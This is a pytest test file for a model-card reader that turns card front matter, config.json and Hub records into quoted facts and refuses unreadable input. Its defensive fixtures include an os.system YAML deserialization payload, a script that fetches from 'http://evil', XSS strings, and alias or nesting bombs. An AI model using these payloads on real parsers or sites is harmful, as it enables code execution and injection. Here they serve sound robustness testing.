"""A model card becomes one text with facts, whose spans quote what states them; bad cards are refused in one line."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alain_magics.errors import UnreadableSource
from alain_magics.lessons.document import Fact, text_hash
from alain_magics.lessons.sources.card import MOST_BYTES, CardDocument, read_card

CARD = """---
license: apache-2.0
language:
- en
- no
widget:
  - text: x
---
# Tiny

- Number of Parameters: 0.6B
- Context Length: 32,768
"""
CONFIG = {"model_type": "llama", "hidden_size": 8, "rope": {"factor": 2.0}, "tied": True, "layers": ["a"]}


def write(folder: Path, card: str, config: object = None, record: object = None) -> Path:
    path = folder / "tiny.md"
    path.write_bytes(card.encode())
    if config is not None:
        (folder / "tiny.config.json").write_text(json.dumps(config, indent=1))
    if record is not None:
        (folder / "tiny.model.json").write_text(json.dumps(record))
    return path


def quote(document: CardDocument, fact: Fact) -> str:
    return document.text[fact.span.start : fact.span.end]


def values(document: CardDocument, ref: str) -> dict[str, object]:
    return {fact.name: fact.value for fact in document.facts if fact.ref == ref}


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("It is a model.", "my-model"),
        ("# Kind 7B\n\nIt is.", "Kind 7B"),
        ("# <script>alert(3)</script> Model [a](javascript:alert(4))", "my-model"),
        ("# ![logo](x.png)\n\nIt is.", "my-model"),
        ("# A [link](http://x) with `code`", "A link with code"),
        ("# " + "word " * 30, ("word " * 12).strip()),
        ("# " + "x" * 200, "x" * 60),
    ],
)
def test_a_card_in_a_folder_has_the_name_of_its_heading_or_of_the_folder(tmp_path: Path, text: str, title: str) -> None:
    folder = tmp_path / "my-model"
    folder.mkdir()
    (folder / "README.md").write_text(text)
    document = read_card(folder / "README.md")
    assert (document.title, document.provenance.ref, document.provenance.file) == (title, title, "README.md")


def test_entries_of_the_front_matter_are_facts_as_they_are_written(tmp_path: Path) -> None:
    document = read_card(write(tmp_path, CARD))
    assert values(document, "front matter") == {"license": "apache-2.0", "language": ["en", "no"]}
    assert [quote(document, fact) for fact in document.facts[:2]] == ["license: apache-2.0", "language:\n- en\n- no"]
    assert document.provenance.licence == "apache-2.0"


def test_labels_with_values_are_facts_of_the_card(tmp_path: Path) -> None:
    document = read_card(write(tmp_path, CARD))
    assert values(document, "card") == {"Number of Parameters": "0.6B", "Context Length": "32,768"}
    fact = document.fact("Context Length")
    assert fact is not None
    assert quote(document, fact) == "- Context Length: 32,768"


def test_the_configuration_is_part_of_the_text_and_its_members_are_facts(tmp_path: Path) -> None:
    document = read_card(write(tmp_path, CARD, CONFIG))
    assert values(document, "config.json") == {
        "model_type": "llama", "hidden_size": 8, "rope.factor": 2.0, "tied": True, "layers": ["a"],
    }  # fmt: skip
    fact = document.fact("rope.factor")
    assert fact is not None
    assert quote(document, fact) == '"factor": 2.0'
    assert document.text.startswith(CARD)


def test_config_json_in_the_same_folder_serves_if_it_is_that_of_a_model(tmp_path: Path) -> None:
    path = write(tmp_path, CARD)
    (tmp_path / "config.json").write_text('{"name": "a web project"}')
    assert values(read_card(path), "config.json") == {}
    (tmp_path / "config.json").write_text('{"model_type": "gpt2"}')
    assert values(read_card(path), "config.json") == {"model_type": "gpt2"}


def test_the_hub_record_gives_name_revision_and_weights_but_no_popularity(tmp_path: Path) -> None:
    record = {
        "id": "maker/tiny", "sha": "0123456789abcdef", "downloads": 5, "author": "maker",
        "safetensors": {"parameters": {"BF16": 7}, "total": 7},
        "config": {"tokenizer_config": {"eos_token": {"content": "</s>"}, "bos_token": None, "chat_template": "{{x}}"}},
    }  # fmt: skip
    document = read_card(write(tmp_path, CARD, None, record))
    assert (document.title, document.provenance.ref, document.provenance.revision) == (
        "tiny", "maker/tiny", "0123456789abcdef",
    )  # fmt: skip
    assert values(document, "Hub record") == {
        "id": "maker/tiny", "sha": "0123456789abcdef", "safetensors.parameters.BF16": 7, "safetensors.total": 7,
        "tokenizer.eos_token": "</s>",
    }  # fmt: skip


def test_without_a_record_the_file_names_the_source_and_the_heading_the_model(tmp_path: Path) -> None:
    document = read_card(write(tmp_path, CARD))
    assert (document.title, document.provenance.ref) == ("Tiny", "tiny.md")
    assert document.provenance.sha256 == text_hash(document.text)


@pytest.mark.parametrize(
    "front", ["license: [unclosed", "license: 'x", "a: b: c", "\tlicense: x", "%YAML", "license: !!x [1"]
)
def test_broken_front_matter_is_text(tmp_path: Path, front: str) -> None:
    document = read_card(write(tmp_path, f"---\n{front}\n---\n# Title\n\nBody."))
    assert [passage.text for passage in document.passages] == ["Body."]
    assert document.text.startswith(f"---\n{front}")


def test_a_broken_entry_leaves_the_others_readable(tmp_path: Path) -> None:
    document = read_card(write(tmp_path, "---\nbad: [\nlicense: mit\n---\nBody."))
    assert values(document, "front matter") == {"license": "mit"}


def refusal(path: Path) -> str:
    with pytest.raises(UnreadableSource) as caught:
        read_card(path)
    line = str(caught.value)
    assert "\n" not in line
    assert caught.value.advice
    return line


@pytest.mark.parametrize(
    ("content", "says"),
    [(b"", "is empty"), (b" \n\t", "is empty"), (b"\xef\xbb\xbf", "is empty"), (b"\xff\xfe\x00", "is not UTF-8")],
)
def test_what_is_no_text_is_refused_in_one_line(tmp_path: Path, content: bytes, says: str) -> None:
    path = tmp_path / "card.md"
    path.write_bytes(content)
    assert says in refusal(path)


def test_a_card_of_fifty_megabytes_is_refused_without_being_read(tmp_path: Path) -> None:
    path = tmp_path / "card.md"
    with path.open("wb") as file:
        file.truncate(50_000_000_000)  # a sparse file: reading it would take minutes and the machine's memory
    start = time.perf_counter()
    assert "larger than 2 MB" in refusal(path)
    assert time.perf_counter() - start < 1


def test_a_folder_a_pipe_and_a_missing_file_are_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.md")
    assert "is a folder" in refusal(tmp_path)
    assert "is not a file" in refusal(tmp_path / "pipe.md")
    assert "is not a file" in refusal(tmp_path / "none.md")


def test_a_file_that_the_system_does_not_give_out_is_refused(tmp_path: Path) -> None:
    assert "cannot be read" in refusal(tmp_path / ("x" * 300 + ".md"))


@pytest.mark.parametrize("config", ["{", "[1]", "[" * 100_000, '{"n": ' + "9" * 5000 + "}", '{"a":' * 20_000])
def test_a_broken_configuration_is_refused_by_name(tmp_path: Path, config: str) -> None:
    path = write(tmp_path, CARD)
    (tmp_path / "tiny.config.json").write_text(config)
    assert "tiny.config.json" in refusal(path)


NESTED = ", ".join(f"&{new} [{', '.join([f'*{old}'] * 8)}]" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
POISONS = {
    "aliases": f"---\nx: [&a [1, 1, 1, 1, 1, 1, 1, 1], {NESTED}]\n---\n# x",
    "objects": '---\nlicense: !!python/object/apply:os.system ["touch canary"]\nx: !!timestamp y\n---\n# x',
    "deep YAML": "---\nx: " + "[" * 1900 + "\n---\n# x",
    "many entries": "---\n" + "a: b\n" * 300_000 + "---\n# x",
    "rules": "---\n" * 400_000,
    "tables": ("|a|b|\n|-|-|\n" + "".join(f"|x{i}|{i}|\n" for i in range(8)) + "\n") * 9000,
    "labels": "a: " * 600_000,
    "scripts": "<script>fetch('http://evil')</script>\n\n" * 40_000,
    "nothing": "\0" * 1_900_000,
}


@pytest.mark.parametrize("name", POISONS)
def test_a_poisoned_card_is_read_harmlessly_in_seconds(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = write(tmp_path, POISONS[name])
    assert path.stat().st_size <= MOST_BYTES
    start = time.perf_counter()
    document = read_card(path)
    assert time.perf_counter() - start < 20
    assert sorted(item.name for item in tmp_path.iterdir()) == ["tiny.md"]
    assert "fetch" not in " ".join(passage.text for passage in document.passages)


@given(st.text(max_size=300), st.dictionaries(st.text(max_size=5), st.integers() | st.text(max_size=9), max_size=4))
@settings(deadline=None)
def test_any_card_is_read_and_its_facts_quote_the_text(
    tmp_path_factory: pytest.TempPathFactory, body: str, config: dict[str, object]
) -> None:
    document = read_card(write(tmp_path_factory.mktemp("card"), "#" + body, {"model_type": "x", **config}))
    for fact in document.facts:
        assert quote(document, fact)
    for name, value in {"model_type": "x", **config}.items():
        fact = next(fact for fact in document.facts if fact.name == name and fact.ref == "config.json")
        assert json.loads("{" + quote(document, fact) + "}") == {name: value}


def test_every_shared_card_has_facts_whose_spans_state_them(shared: Path) -> None:
    paths = sorted((shared / "fixtures" / "model_cards").glob("*.md"))
    assert len(paths) == 12
    for path in paths:
        document = read_card(path)
        assert document.provenance.licence in {"apache-2.0", "mit", "bsd-3-clause"}
        assert document.text.startswith(path.read_text(encoding="utf-8"))
        for fact in document.facts:
            if fact.ref in ("config.json", "Hub record"):
                (value,) = json.loads("{" + quote(document, fact) + "}").values()
                assert value == fact.value
            else:
                assert fact.name.split()[0] in quote(document, fact)


@pytest.mark.parametrize("total", ["12", "\ud7ff", None, True, 1.5, [1], {"a": 1}])
def test_a_total_of_another_kind_than_a_number_is_no_fact(tmp_path: Path, total: object) -> None:
    document = read_card(write(tmp_path, CARD, record={"safetensors": {"total": total, "parameters": {"F32": 3}}}))
    assert values(document, "Hub record") == {"safetensors.parameters.F32": 3}


def test_half_a_character_in_json_is_refused_in_one_line(tmp_path: Path) -> None:
    with pytest.raises(UnreadableSource, match=r"tiny\.model\.json is not valid JSON"):
        read_card(write(tmp_path, CARD, record={"safetensors": {"total": "\ud800"}}))


@pytest.mark.parametrize("value", ['"\\ud800"', '["\\udfff"]', '"\\U00110000"'])
def test_front_matter_with_what_is_no_character_is_passed_over(tmp_path: Path, value: str) -> None:
    document = read_card(write(tmp_path, f"---\nlicense: mit\nbase: {value}\n---\n# Tiny\n\nText.\n"))
    assert values(document, "front matter") == {"license": "mit"}
